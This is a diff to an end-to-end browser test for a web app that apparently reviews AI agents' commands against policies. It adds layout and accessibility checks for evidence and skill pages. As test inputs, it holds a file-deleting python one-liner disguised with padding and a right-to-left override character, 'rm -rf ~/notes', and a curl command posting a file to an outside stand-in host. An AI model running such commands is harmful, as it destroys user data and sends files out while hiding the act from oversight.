@@ -3,7 +3,9 @@ import { join } from "node:path";
 import type { Page } from "playwright-core";
 import { afterAll, beforeAll, describe, type ExpectStatic, it } from "vitest";
 import { answeredForms, FAULTY_TABLE, sessionAddress, TABLE } from "./answers.ts";
+import { SKILL, SKILL_CALLS, TYPED, WRITES } from "./claims.ts";
 import {
+  askAbout,
   askAll,
   DESKTOP,
   faultsOf,
@@ -12,6 +14,7 @@ import {
   newOrganization,
   newPerson,
   PHONE,
+  reportRun,
   type Stage,
   say,
   setStage,
@@ -268,13 +271,13 @@ const LOOKS: readonly (Look & { readonly axe: boolean })[] = [
 async function shoot(page: Page, name: string, look: Look, whole: boolean): Promise<void> {
   if (SCREENSHOTS === undefined) return;
   mkdirSync(SCREENSHOTS, { recursive: true });
-  const file = `${name.replace(/[^a-z]+/gi, "-").slice(0, 24)}-${look.width}-${look.colorScheme}.png`;
+  const file = `${name.replace(/[^a-z]+/gi, "-").slice(0, 40)}-${look.width}-${look.colorScheme}.png`;
   await page.screenshot({ path: join(SCREENSHOTS, file), fullPage: whole });
 }
 
 describe.concurrent("every page", () => {
   it("is clean to axe in both themes, fits 360 px, has targets for fingers and breaks no policy", {
-    timeout: 180_000,
+    timeout: 300_000,
   }, async ({ expect }) => {
     const { origin } = stage.client;
     const { link } = await newOrganization(stage.client, "Acme Research");
@@ -283,6 +286,14 @@ describe.concurrent("every page", () => {
     const empty = await first.page.content();
     expect(empty).toContain("Nothing was asked yet");
     expect(await faultsOf(first.page)).toEqual([]);
+    await first.page.setViewportSize(PHONE);
+    for (const path of ["/", "/evidence"]) {
+      await first.page.goto(origin + path);
+      await shoot(first.page, `empty-${path}`, { ...PHONE, colorScheme: "light" }, true);
+      expect(await faultsOf(first.page), `${path}, empty`).toEqual([]);
+      expect(await shapeOf(first.page), `${path}, empty`).toEqual({ sideways: 0, small: [] });
+    }
+    await first.page.setViewportSize(DESKTOP);
     await first.page.goto(`${origin}/oath`);
     await swear(first.page, OATH);
     await swear(first.page, `${OATH}\nalways require backup before modify: ~/.config/**`);
@@ -297,10 +308,18 @@ describe.concurrent("every page", () => {
       `python3 -c 'import shutil; shutil.rmtree("/home/me/notes")' # ${"a".repeat(300)}\u202e`,
     ]);
     await say(stage.client, key, session, WORDS);
+    await say(stage.client, key, session, TYPED, { sender_id: "dana@example.com" });
+    await askAbout(stage.client, key, session, WRITES);
+    await reportRun(stage.client, key, session, SKILL_CALLS);
     await askAll(stage.client, key, `${session} sub`, ["ls"], { child_of: session });
     await first.page.goto(`${origin}/`);
-    await first.page.locator(".decision").nth(4).waitFor();
+    await first.page
+      .locator(".decision")
+      .nth(4 + WRITES.length)
+      .waitFor();
     const own = await first.page.locator('.decision a[href^="/decision?"]').first().getAttribute("href");
+    await first.page.goto(`${origin}/evidence?q=prod`);
+    const claimed = await first.page.locator('.decision a[href^="/decision?"]').first().getAttribute("href");
     await first.page.goto(`${origin}/agents`);
     const agent = await first.page.locator('td a[href^="/agents/"]').first().getAttribute("href");
     await first.page.goto(`${origin}/members`);
@@ -326,6 +345,13 @@ describe.concurrent("every page", () => {
       member,
       sessionAddress(session),
       `/?${new URLSearchParams({ session })}`,
+      "/evidence",
+      "/evidence?q=postgres&verdict=would_block&days=7",
+      "/evidence?q=nothing-of-it&session=elsewhere",
+      "/evidence/check",
+      claimed,
+      `${agent}/skills`,
+      `${agent}/skill?${new URLSearchParams({ name: SKILL })}`,
       "/settings",
       "/docs",
     ];
@@ -335,6 +361,8 @@ describe.concurrent("every page", () => {
         const where = `${path} at ${look.width} px, ${look.colorScheme}`;
         await page.goto(origin + path);
         if (path === "/") await page.locator(".decision summary").nth(1).click();
+        if (/^\/evidence\b|\/skill\?/.test(path ?? ""))
+          await page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })");
         if (look.axe) expect(await faultsOf(page), where).toEqual([]);
         if (look.width === PHONE.width)
           expect(await shapeOf(page), where).toEqual({ sideways: 0, small: [] });
@@ -347,13 +375,14 @@ describe.concurrent("every page", () => {
     await strangersPages(expect);
   });
 
-  it("is so too when it answers a form", { timeout: 180_000 }, async ({ expect }) => {
+  it("is so too when it answers a form", { timeout: 300_000 }, async ({ expect }) => {
     const { link } = await newOrganization(stage.client, "Answers");
     const first = await newPerson(stage, DESKTOP);
     await signIn(first.page, link);
     await saveTable(first.page, TABLE);
     const key = await makeAgentAndKey(first.page, "assistant");
     await askAll(stage.client, key, "chat", ["ls", "rm -rf ~/notes", "curl -d @a https://x.example"]);
+    await say(stage.client, key, "chat", TYPED);
     await openSession(first.page, "chat", 3);
     const state = await first.context.storageState();
     await first.context.close();
@@ -366,7 +395,7 @@ describe.concurrent("every page", () => {
         const { sideways, small } = await shapeOf(page);
         expect([sideways, ...(look.width === PHONE.width ? small : [])], where).toEqual([0]);
       });
-      expect(complaints.filter((one) => !/ERR_ABORTED|status of (?:400|412|422)/.test(one))).toEqual([]);
+      expect(complaints.filter((one) => !/ERR_ABORTED|status of (?:400|404|412|422)/.test(one))).toEqual([]);
       await context.close();
     }
   });
